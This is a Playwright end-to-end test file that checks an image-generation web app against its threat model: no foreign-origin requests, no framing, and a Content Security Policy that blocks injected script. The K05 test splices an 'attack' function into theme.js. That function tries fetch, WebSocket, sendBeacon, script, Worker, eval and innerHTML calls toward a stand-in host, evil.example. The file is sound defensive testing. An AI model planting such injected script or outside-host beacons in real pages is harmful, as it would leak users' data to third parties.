import { createServer } from 'node:http';
import type { BrowserContext, Page } from '@playwright/test';
import { startAppServer } from '#e2e/app-server.ts';
import { generate, openPlayground, test } from '#e2e/journey.ts';
import { fillForm, MODEL } from '#e2e/page-faults/fill-form.ts';
import { expect } from '#e2e/page-faults/patient-expect.ts';
import { watchChanges } from './watch-changes.ts';
import { watchComplaints } from './watch-complaints.ts';

/** threats.md A12, C11, H05, K04, K05: nothing of other origins is asked for by the page, and none may hold it in a frame. */

const TRACKER = 'https://tracker.evil.example/p.gif';

/** Answers for every other origin, and writes down what was asked of it. */
async function watchForeign(context: BrowserContext, url: string): Promise<readonly string[]> {
  const asked: string[] = [];
  await context.route(
    (to) => to.protocol.startsWith('http') && to.origin !== url,
    (route) => {
      asked.push(`${route.request().url()} from ${route.request().headers().referer ?? 'nowhere'}`);
      return route.fulfill({ body: 'a picture', contentType: 'image/gif' });
    },
  );
  return asked;
}

/** Gives the area around the seed image what a person would drop or paste there. */
async function give(page: Page, type: 'paste' | 'drop', text: string): Promise<void> {
  const area = page.getByRole('button', { name: /Seed image.*Choose, drop or paste/ });
  await area.evaluate(
    (target, [kind, value]) => {
      const data = new DataTransfer();
      data.setData('text/plain', value);
      const init = { bubbles: true, cancelable: true };
      target.dispatchEvent(
        kind === 'paste'
          ? new ClipboardEvent(kind, { ...init, clipboardData: data })
          : new DragEvent(kind, { ...init, dataTransfer: data }),
      );
    },
    [type, text] as const,
  );
}

for (const [id, way] of [
  ['A12', 'stored'],
  ['C11', 'dropped'],
  ['C11', 'pasted'],
  ['C11', 'typed'],
] as const) {
  test(`${id} an image URL that is ${way}: nobody asks for it before a click on “Show”`, async ({
    page,
    server,
    context,
  }) => {
    const complaints = watchComplaints(page);
    const asked = await watchForeign(context, server.url);
    const posts = watchChanges(page);
    if (way === 'stored') {
      const draft = { positivePrompt: 'a tracker', inputs: { seedImage: TRACKER } };
      await page.addInitScript(([key, value]) => localStorage.setItem(key, value), [
        `proofsheet.draft.1.${MODEL}`,
        JSON.stringify(draft),
      ] as const);
    }
    await openPlayground(page, server, MODEL);
    if (way === 'dropped') await give(page, 'drop', TRACKER);
    if (way === 'pasted') await give(page, 'paste', TRACKER);
    if (way === 'typed') {
      const box = page.getByRole('textbox', { name: 'Seed image: URL or UUID' });
      await box.fill(TRACKER);
      await box.press('Enter');
    }
    await expect(page.getByText(TRACKER)).toBeVisible();
    const show = page.getByRole('link', { name: 'Show Seed image from tracker.evil.example, in a new tab' });
    await show.hover();
    await show.focus();
    await page.waitForLoadState('networkidle');
    expect(asked).toEqual([]);
    // The server is not told of it either, so it cannot ask.
    expect(posts).toEqual([]);

    const opened = context.waitForEvent('page');
    await show.press('Enter');
    const tab = await opened;
    await expect.poll(() => asked).toEqual([`${TRACKER} from nowhere`]);
    expect(await tab.evaluate(() => window.opener)).toBe(null);
    expect(complaints).toEqual([]);
  });
}

test('H05 a page that puts ours into a frame gets nothing', async ({ page, server }) => {
  const framer = createServer((_, answer) => {
    answer.setHeader('content-type', 'text/html');
    answer.end(`<iframe src="${server.url}/"></iframe><iframe src="${server.url}/gallery"></iframe>`);
  });
  await new Promise<void>((resolve) => framer.listen(0, '127.0.0.1', resolve));
  const address = framer.address();
  const said: string[] = [];
  page.on('console', (message) => said.push(message.text()));
  await page.goto(`http://127.0.0.1:${typeof address === 'object' ? address?.port : ''}/`);
  await expect.poll(() => said.filter((text) => text.includes('frame-ancestors')).length).toBe(2);
  const frames = page.frames().filter((frame) => frame.parentFrame() !== null);
  expect(frames).toHaveLength(2);
  for (const frame of frames) {
    expect(frame.url()).toMatch(/^chrome-error:/);
    expect(await frame.content()).not.toContain('Proofsheet');
  }
  await new Promise((resolve) => framer.close(resolve));
});

test('K04 with every other origin blocked the whole journey works, and none of them is asked for', async ({
  page,
  context,
}) => {
  test.slow();
  const server = await startAppServer();
  const complaints = watchComplaints(page);
  const asked: string[] = [];
  await context.route(
    (to) => to.origin !== server.url,
    (route) => {
      asked.push(route.request().url());
      return route.abort();
    },
  );
  await openPlayground(page, server, MODEL);
  await page.getByRole('list', { name: 'Examples' }).getByRole('button').first().click();
  await generate(page);
  await fillForm(page, server, 'a lamp, 灯, лампа, 램프');
  await generate(page);
  await page.getByRole('article').getByRole('button', { name: 'Details' }).click();
  await expect(page.getByRole('dialog').getByRole('row', { name: /^taskType/ })).toBeVisible();
  await page.keyboard.press('Escape');
  await page.getByRole('button', { name: /^Model: / }).click();
  await page
    .getByRole('button', { name: /Replicate/ })
    .first()
    .click();
  await page.getByRole('textbox', { name: 'Prompt', exact: true }).fill('at the other provider');
  await generate(page);
  await page.getByRole('button', { name: /^Spent today/ }).click();
  await expect(page.getByRole('dialog', { name: 'Spend' })).toBeVisible();
  await page.keyboard.press('Escape');
  await page.getByRole('link', { name: 'Gallery' }).click();
  const tiles = page.getByRole('button', { name: /done, seed/ });
  await expect(tiles).toHaveCount(3);
  await expect
    .poll(() =>
      tiles.locator('img').evaluateAll((all) => all.every((one) => Reflect.get(one, 'naturalWidth') > 0)),
    )
    .toBe(true);
  await page.getByRole('button', { name: /^Theme: / }).click();
  await page.getByRole('button', { name: /^Theme: / }).click();
  await page.reload();
  await expect(tiles).toHaveCount(3);
  await page.waitForLoadState('networkidle');
  expect(asked).toEqual([]);
  expect(complaints).toEqual([]);
  await server.kill();
});

test('K05 a script that got into the page reaches no other origin, makes no code of text and writes no HTML', async ({
  page,
  server,
  context,
}) => {
  const asked = await watchForeign(context, server.url);
  const said: string[] = [];
  page.on('console', (message) => said.push(message.text()));
  // The worst case: it runs as one of our own files, from the first moment on.
  await page.route('**/theme.js', async (route) => {
    const answer = await route.fetch();
    const body = `${await answer.text()}\n(${attack})(${JSON.stringify('https://evil.example')});`;
    return route.fulfill({ response: answer, body });
  });
  await page.goto(server.url);
  await expect(page.getByRole('button', { name: /^Model: / })).toBeVisible();
  const outcomes = () => page.evaluate(() => Reflect.get(window, 'outcomes'));
  const tries = [
    'fetch',
    'XMLHttpRequest',
    'EventSource',
    'WebSocket',
    'sendBeacon',
    'Image',
    'import',
    'script',
    'style',
  ];
  const texts = [
    'eval',
    'Function',
    'setTimeout',
    'innerHTML',
    'insertAdjacentHTML',
    'document.write',
    'policy',
    'Worker',
  ];
  await expect
    .poll(outcomes)
    .toEqual(
      Object.fromEntries([...tries, ...texts, 'frame', 'inline', 'base'].map((name) => [name, 'blocked'])),
    );
  expect(asked).toEqual([]);
  expect(said.filter((text) => /Content Security Policy/.test(text)).length).toBeGreaterThan(tries.length);
});

/** Runs in the page. Each try ends as `blocked`, or with what came of it. */
async function attack(evil: string): Promise<void> {
  const root = document.documentElement;
  function element(name: string, attributes: Record<string, string>): Promise<void> {
    return new Promise((resolve, reject) => {
      const made = document.createElement(name);
      made.addEventListener('load', () => resolve());
      made.addEventListener('error', reject);
      for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value);
      root.append(made);
    });
  }
  function event(target: EventTarget): Promise<void> {
    return new Promise((resolve, reject) => {
      for (const good of ['open', 'load']) target.addEventListener(good, () => resolve());
      target.addEventListener('error', reject);
    });
  }
  /** Whether a violation is told of within a moment. */
  function refused(act: () => void): Promise<void> {
    return new Promise((resolve, reject) => {
      document.addEventListener('securitypolicyviolation', reject, { once: true });
      act();
      setTimeout(resolve, 500);
    });
  }
  const tries: Record<string, () => unknown> = {
    fetch: () => fetch(evil),
    XMLHttpRequest() {
      const request = new XMLHttpRequest();
      request.open('GET', evil);
      request.send();
      return event(request);
    },
    EventSource: () => event(new EventSource(evil)),
    WebSocket: () => event(new WebSocket(evil.replace('https', 'wss'))),
    sendBeacon: () => refused(() => navigator.sendBeacon(evil, 'x')),
    Image: () => element('img', { src: `${evil}/p.gif` }),
    import: () => import(/* @vite-ignore */ `${evil}/x.js`),
    script: () => element('script', { src: `${evil}/x.js` }),
    style: () => element('link', { rel: 'stylesheet', href: `${evil}/x.css` }),
    // biome-ignore lint/security/noGlobalEval: it is what must not work
    eval: () => eval('1 + 1'),
    Function: () => new Function('return 1')(),
    setTimeout: () => refused(() => Reflect.apply(setTimeout, window, ['window.isHacked = true'])),
    innerHTML: () => Reflect.set(document.createElement('div'), 'innerHTML', '<b>x</b>'),
    insertAdjacentHTML: () => root.insertAdjacentHTML('beforeend', '<b>x</b>'),
    'document.write': () => document.write('<b>x</b>'),
    policy: () => Reflect.get(window, 'trustedTypes').createPolicy('default', {}),
    Worker: () => event(new Worker(`${evil}/x.js`)),
    frame: () => refused(() => void element('iframe', { src: evil })),
    inline: () => refused(() => void element('img', { src: 'data:,', onerror: 'window.isHacked = true' })),
    base: () => refused(() => void element('base', { href: evil })),
  };
  const outcomes: Record<string, string> = {};
  for (const [name, act] of Object.entries(tries)) {
    try {
      outcomes[name] = `came to ${String(await act())}`;
    } catch {
      outcomes[name] = 'blocked';
    }
  }
  Reflect.set(window, 'outcomes', outcomes);
}
